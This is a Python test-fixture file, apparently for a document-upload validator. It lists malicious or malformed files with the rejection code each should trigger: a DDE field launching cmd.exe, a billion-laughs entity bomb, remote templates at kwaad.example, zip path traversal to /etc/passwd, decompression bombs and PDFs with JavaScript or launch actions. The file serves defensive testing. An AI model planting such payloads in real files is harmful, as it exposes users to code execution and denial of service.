"""Files that should not get in, each with the code of its true reason. Large ones are made when they are asked for."""

from tests.aanval import listig
from tests.aanval.maken import (
    DOCUMENT,
    EXE,
    beeld,
    bladactie,
    documentactie,
    docx,
    foto,
    grote_foto,
    jpg_scans,
    kapotte_deflate,
    knopactie,
    leugenaar,
    met_bijlage,
    met_js,
    met_uri_bij_openen,
    naar_blad_en_verder,
    ole,
    open_actie,
    pdf,
    pdf_bladen,
    pdf_bom,
    pdf_keten,
    png_bom,
    png_groot,
    relaties,
    start_actie,
    typen,
    verborgen_naam,
    webp_belofte,
    xfa,
    xlsx,
    zip_met,
)  # fmt: skip

MACRO = "application/vnd.ms-office.vbaProject"
DTD = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">%s]>' % b"".join(
    b'<!ENTITY %c "&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;&%c;">' % (n + 1, *[n] * 10) for n in range(ord("a"), ord("j"))
)
MET_DTD = DOCUMENT.replace(b"<w:document", DTD + b"<w:document", 1).replace(b"<w:body/>", b"<w:body>&j;</w:body>")
DDE = (
    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
    b'<w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r>'
)


def _met(*rijen, deel="word/_rels/document.xml.rels", extra=()):
    return docx([(deel, relaties(*rijen)), *extra])


KWAAD = {
    "leeg": ("brief.pdf", b"", "leeg"),
    "te groot": ("brief.pdf", lambda: pdf() + b" " * (11 * 1024 * 1024) + b"%%EOF", "te_groot"),
    # not ours, or in disguise
    "exe als pdf": ("brief.pdf", EXE, "programma"),
    "exe": ("brief.exe", EXE, "programma"),
    "exe als docx": ("brief.docx", EXE, "programma"),
    "exe met docx erachter": ("brief.docx", docx(voor=EXE), "programma"),
    "exe met pdf erachter": ("brief.pdf", EXE + pdf(), "programma"),
    "html met docx erachter": ("brief.docx", docx(voor=b"<html><script>alert(1)</script>"), "onbekend"),
    "svg": ("brief.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "onbekend"),
    "svg als png": ("brief.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "onbekend"),
    "html als jpg": ("brief.jpg", b"<html><script>alert(1)</script></html>", "onbekend"),
    "html met jpg-kop": ("brief.jpg", b"\xff\xd8\xff\xe0<html><script>alert(1)</script></html>", "foto_kapot"),
    "html als pdf": ("brief.pdf", b"<html>%PDF-1.4 %%EOF</html>", "pdf_kapot"),
    "tekst": ("brief.txt", b"Beste mensen, ik wil graag meedoen.", "onbekend"),
    "zip": ("brieven.zip", zip_met(("a.txt", b"b")), "zip"),
    # kinds that people have, with the way to a pdf
    "odt": ("brief.odt", zip_met(("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<x/>")),
    "odt"),
    "odt als docx": ("brief.docx", zip_met(("mimetype", b"application/vnd.oasis.opendocument.text"),
    ("content.xml", b"<x/>")), "odt"),
    "rtf": ("brief.rtf", rb"{\rtf1\ansi Dag}", "rtf"),
    "rtf als doc": ("brief.doc", rb"{\rtf1\ansi Dag}", "rtf"),
    "doc": ("brief.doc", ole("Root Entry", "WordDocument"), "doc"),
    "doc als docx": ("brief.docx", ole("Root Entry", "WordDocument"), "doc"),
    "pages": ("brief.pages", zip_met(("Index/Document.iwa", b"x"), ("preview.jpg", foto())), "pages"),
    "tif": ("scan.tif", beeld("TIFF"), "tif"),
    "gif": ("plaatje.gif", beeld("GIF"), "gif"),
    "excel": ("cv.xlsx", xlsx(), "excel"),
    "film": ("cv.mp4", b"\0\0\0\x18ftypmp42\0\0\0\0mp42isom", "mp4"),
    "docx met wachtwoord": ("cv.docx", ole("Root Entry", "EncryptionInfo", "EncryptedPackage"), "docx_slot"),
    # docx
    "docx met macro": ("brief.docx", docx([("word/vbaProject.bin", EXE)]), "docx_macro"),
    "docx met macro onder een andere naam": ("brief.docx", docx([("word/x.bin", ole("VBA"))],
    typen=typen(("/word/x.bin", MACRO))), "docx_macro"),
    "docx met een macro die nergens genoemd is": ("brief.docx", docx([("word/media/x.png", ole("VBA"))]),
    "docx_bijlage"),
    "docm als docx": ("brief.docx", docx(typen=typen(soort="application/vnd.ms-word.document.macroEnabled.main+xml")),
    "docx_macro"),
    "docx met bijlage": ("brief.docx", docx([("word/embeddings/oleObject1.bin", EXE)]), "docx_bijlage"),
    "docx met ole erin": ("brief.docx", _met(("oleObject", "embeddings/a.bin"),
    extra=[("word/embeddings/a.bin", ole("Package"))]), "docx_bijlage"),
    "docx met een sjabloon van het net": (
        "brief.docx", _met(("attachedTemplate", "http://kwaad.example/x.dotm", "External"),
        deel="word/_rels/settings.xml.rels"), "docx_sjabloon",
    ),
    "docx met een sjabloon van een andere computer": (
        "brief.docx", _met(("attachedTemplate", r"\\kwaad.example\x\y.dotm", "External"),
        deel="word/_rels/settings.xml.rels"), "docx_sjabloon",
    ),
    "docx met een sjabloon van een andere computer, als adres": (
        "brief.docx", _met(("attachedTemplate", "file://kwaad.example/x/y.dotm", "External"),
        deel="word/_rels/settings.xml.rels"), "docx_sjabloon",
    ),
    "docx met een stuk van buiten": ("brief.docx", _met(("frame", "http://kwaad.example/", "External")),
    "docx_bijlage"),
    "docx met html erin": ("brief.docx", _met(("aFChunk", "x.htm"), extra=[("word/x.htm", b"<html/>")]),
    "docx_bijlage"),
    "docx met een blad met macro": ("brief.docx", docx([("word/embeddings/x.xlsx", xlsx(macro=True))]), "docx_macro"),
    "docx met een zip erin": ("brief.docx", docx([("word/embeddings/x.zip", zip_met(("a", b"b")))]), "docx_bijlage"),
    "docx die een programma start": ("brief.docx", docx(document=DOCUMENT.replace(b"<w:body/>",
    b"<w:body>" + DDE + b"</w:body>")), "docx_programma"),
    "docx met entiteiten": ("brief.docx", docx(document=MET_DTD), "docx_dtd"),
    "docx met entiteiten in utf-16": ("brief.docx", docx(document=MET_DTD.decode().replace("?>",
    ' encoding="UTF-16"?>', 1).encode("utf-16")), "docx_dtd"),
    "docx met entiteiten in de relaties": ("brief.docx", docx([("word/_rels/x.rels", DTD + b"<Relationships/>")]),
    "docx_dtd"),
    "docx met entiteiten in een plaatje": ("brief.docx", docx([("word/media/x.svg", DTD + b"<svg/>")]), "docx_dtd"),
    "docx met entiteiten ver in een plaatje": (
        "brief.docx", docx([("word/media/x.svg", b"<!-- " + b" " * 100_000 + b"-->" + DTD + b"<svg/>")]), "docx_kapot",
    ),
    "docx die ontploft": ("brief.docx", lambda: docx([("word/bom.bin", b"\0" * 150_000_000)]), "uitgepakt"),
    "docx die liegt over de maat": ("brief.docx", leugenaar(), "docx_kapot"),
    "docx met kapotte inhoud": ("brief.docx", kapotte_deflate(), "docx_kapot"),
    "docx met een pad naar buiten": ("brief.docx", docx([("../../etc/passwd", b"x")]), "docx_kapot"),
    "docx zonder tekst": ("brief.docx", docx(hoofd=""), "docx_kapot"),
    "half docx": ("brief.docx", docx(document=DOCUMENT * 500)[:-60], "docx_kapot"),
    "docx met heel veel delen": ("brief.docx", lambda: docx([(f"word/{nr}.bin", b"") for nr in range(2500)]),
    "uitgepakt"),
    # pdf
    "half pdf": ("brief.pdf", pdf()[:-120], "pdf_kapot"),
    "pdf met zip erachter": ("brief.pdf", pdf() + docx(), "pdf_kapot"),
    "pdf zonder bladen": ("brief.pdf", pdf(bladen=0), "pdf_kapot"),
    "pdf met wachtwoord": ("brief.pdf", pdf(wachtwoord="geheim"), "pdf_slot"),
    "pdf met javascript": ("brief.pdf", pdf(met_js), "pdf_programma"),
    "pdf met javascript in geheimschrift": ("brief.pdf", verborgen_naam(pdf(met_js)), "pdf_programma"),
    "pdf met javascript bij openen": ("brief.pdf", pdf(open_actie), "pdf_programma"),
    "pdf die iets start": ("brief.pdf", pdf(start_actie), "pdf_programma"),
    "pdf die een adres opent": ("brief.pdf", pdf(met_uri_bij_openen), "pdf_programma"),
    "pdf die na het openen iets doet": ("brief.pdf", pdf(naar_blad_en_verder), "pdf_programma"),
    "pdf met een actie bij sluiten": ("brief.pdf", pdf(documentactie), "pdf_programma"),
    "pdf met een actie op een blad": ("brief.pdf", pdf(bladactie), "pdf_programma"),
    "pdf met een knop die iets doet": ("brief.pdf", pdf(knopactie), "pdf_programma"),
    "pdf met xfa": ("brief.pdf", pdf(xfa), "pdf_programma"),
    "pdf met een bijlage": ("brief.pdf", pdf(met_bijlage), "pdf_bijlage"),
    "pdf zonder catalogus": ("brief.pdf", b"%PDF-1.4\ntrailer << /Size 1 >>\nstartxref\n0\n%%EOF", "pdf_kapot"),
    "pdf met een kring": (
        "brief.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[2 0 R]/Count 9999999>>endobj\n"
        b"trailer<</Root 1 0 R/Size 3>>\nstartxref\n9\n%%EOF",
        "pdf_kapot",
    ),
    "pdf met alleen een kop": ("brief.pdf", b"%PDF-1.7\n%%EOF", "pdf_kapot"),
    "pdf met een keten van 90.000 delen": ("brief.pdf", pdf_keten, "ingewikkeld"),
    "pdf met 20.000 bladen": ("brief.pdf", pdf_bladen, "ingewikkeld"),
    "pdf die ontploft": ("brief.pdf", pdf_bom, "pdf_kapot"),
    # photos
    "half jpg": ("foto.jpg", foto()[:200], "foto_kapot"),
    "png-bom": ("foto.png", png_bom(), "foto_groot"),
    "png van 60 megapixel": ("foto.png", lambda: png_groot(10_000, 6_000), "foto_groot"),
    "jpg van 60 megapixel": ("foto.jpg", lambda: grote_foto((10_000, 6_000)), "foto_groot"),
    "jpg van 50 megapixel in stappen": ("foto.jpg", lambda: grote_foto((8_640, 5_760), progressive=True), "foto_groot"),
    "jpg met duizenden scans": ("foto.jpg", jpg_scans, "foto_groot"),
    "webp die groot is": ("foto.webp", webp_belofte(16_000, 16_000), "foto_groot"),
    "nep-heic": ("foto.heic", b"\x00\x00\x00\x18ftypheic" + b"\x00" * 200, "foto_kapot"),
    **listig.KWAAD,
}  # fmt: skip


def inhoud_van(inhoud):
    return inhoud() if callable(inhoud) else inhoud
